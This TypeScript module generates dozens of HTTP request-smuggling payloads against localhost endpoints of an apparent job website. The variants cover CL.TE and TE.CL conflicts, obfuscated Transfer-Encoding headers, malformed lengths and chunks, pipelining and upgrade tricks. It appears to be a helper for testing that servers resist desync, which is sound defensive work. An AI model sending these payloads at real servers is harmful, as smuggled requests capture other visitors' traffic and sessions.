const call = '/v1/website/job/get-all-jobs';
const host = 'Host: localhost';
const chunked = 'Transfer-Encoding: chunked';
/** Replaced by the length of the hidden request. */
const length = 'Content-Length: LENGTH';
const websocket = ['Connection: Upgrade', 'Upgrade: websocket'];

/** The hidden request is in the body: the method and the headers. */
const inBody: Readonly<Record<string, readonly [string, ...string[]]>> = {
  'GET with chunks': ['GET', chunked],
  'HEAD with chunks': ['HEAD', chunked],
  'DELETE with chunks': ['DELETE', chunked],
  'OPTIONS with chunks': ['OPTIONS', chunked],
  'PUT with chunks': ['PUT', chunked],
  'GET with a length': ['GET', length],
  'HEAD with a length': ['HEAD', length],
  'DELETE with a length': ['DELETE', length],
  'GET with chunks and Connection: TE': ['GET', 'Connection: transfer-encoding', chunked],
  'GET with Connection: content-length': ['GET', length, 'Connection: content-length'],
  'DELETE with Connection: content-length': ['DELETE', length, 'Connection: content-length'],
  'POST, Connection: content-length': ['POST', length, 'Connection: content-length'],
  'POST, Connection: keep-alive, CL': ['POST', length, 'Connection: keep-alive, Content-Length'],
  'POST, Connection: transfer-encoding': ['POST', 'Connection: transfer-encoding', chunked],
  '0.CL': ['GET', 'Content-Length : 5'],
  'two lengths': ['POST', 'Content-Length: 4', length],
  'two lengths in one line': ['POST', 'Content-Length: 4, LENGTH'],
  'length with a sign': ['POST', 'Content-Length: +LENGTH'],
  'negative length': ['POST', 'Content-Length: -1'],
  'length in 0x form': ['POST', 'Content-Length: 0x4'],
  'upgrade with chunks': ['POST', ...websocket, chunked],
  'expect 100-continue': ['GET', 'Expect: 100-continue', chunked],
};

/** The headers of a POST of four bytes, whose body is the last chunk and the hidden request. */
const encodings: readonly string[] = [
  chunked,
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: "chunked"',
  `${chunked}\r\nTransfer-Encoding: x`,
  `Transfer-Encoding: x\r\n${chunked}`,
  'Transfer_Encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'Transfer-Encoding:\r\n chunked',
  'X-A: b\r\n Transfer-Encoding: chunked',
  'X-A: b\nTransfer-Encoding: chunked',
  'X-A: b\rTransfer-Encoding: chunked',
  'Transfer-Encoding: chu\0nked',
];

/** A POST with chunks that begin like this, before the hidden request. */
const chunks: readonly string[] = [
  '0x0\r\n\r\n',
  '+0\r\n\r\n',
  '10000000000000000\r\n',
  '1\r\nx\n0\r\n\r\n',
  '0\r\nContent-Length: 9\r\n\r\n',
];

/** A request without a body, directly followed by the hidden one. */
const heads: readonly (readonly string[])[] = [
  [`GET ${call} HTTP/1.1`, host],
  [`HEAD ${call} HTTP/1.1`, host],
  [`POST ${call} HTTP/1.1`, host, 'Content-Length: 0'],
  [
    `GET ${call} HTTP/1.1`,
    host,
    'Connection: Upgrade, HTTP2-Settings',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQAAP__',
  ],
  [
    `GET ${call} HTTP/1.1`,
    host,
    ...websocket,
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  ],
  [`GET ${call} HTTP/1.0`, host, 'Connection: keep-alive'],
  [`GET ${call} HTTP/2.0`, host],
  ['CONNECT localhost:4000 HTTP/1.1', host],
  [`GET ${call} HTTP/1.1`, host, 'Host: other.example'],
  [`GET ${call}?a=%0d%0aContent-Length:%205 HTTP/1.1`, host],
];

/**
 * Requests that two servers may read differently, as the bytes of their connection. Each carries
 * `hidden`: an incomplete request that would take the next visitor's request into itself (RFC 9112,
 * 11.2).
 */
export function createAmbiguousRequests(hidden: string): Readonly<Record<string, string>> {
  const head = (...lines: string[]) => `${lines.join('\r\n')}\r\n\r\n`;
  const whole = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const start = ['POST /v1/website/web-vitals HTTP/1.1', host];
  const withBody = (method: string, ...headers: string[]) =>
    head(`${method} ${call} HTTP/1.1`, host, ...headers).replace('LENGTH', `${hidden.length}`) +
    (headers.includes(chunked) ? whole : hidden);
  const named = (kind: string, requests: readonly string[]) =>
    Object.fromEntries(requests.map((request) => [`${kind} ${JSON.stringify(request)}`, request]));
  const inChunks = withBody('POST', chunked);
  return {
    ...Object.fromEntries(Object.entries(inBody).map(([name, row]) => [name, withBody(...row)])),
    ...named(
      'encoding',
      encodings.map((line) => `${head(...start, 'Content-Length: 4', line)}0\r\n\r\n${hidden}`),
    ),
    ...named(
      'chunks',
      chunks.map((begin) => head(...start, chunked) + begin + hidden),
    ),
    ...named(
      'pipelined',
      heads.map((lines) => head(...lines) + hidden),
    ),
    'TE.CL': head(...start, chunked, 'Content-Length: 4') + whole.replace('0\r\n\r\n', ''),
    'bare LF everywhere': inChunks.replaceAll('\r\n', '\n'),
    'chunk extension': inChunks.replace(/\r\n(\w+)\r\n/, '\r\n$1;a=b\r\n'),
    'chunk extension with a bare LF': `${head(...start, chunked)}2;\nxx\r\n${whole}`,
    'HTTP/1.0 with chunks': inChunks.replace('HTTP/1.1', 'HTTP/1.0'),
    'HTTP/0.9': `GET ${call}\r\n${hidden}`,
    'absolute form': withBody('GET', chunked).replace(call, `http://other.example${call}`),
    'asterisk form': withBody('OPTIONS', chunked).replace(call, '*'),
  };
}
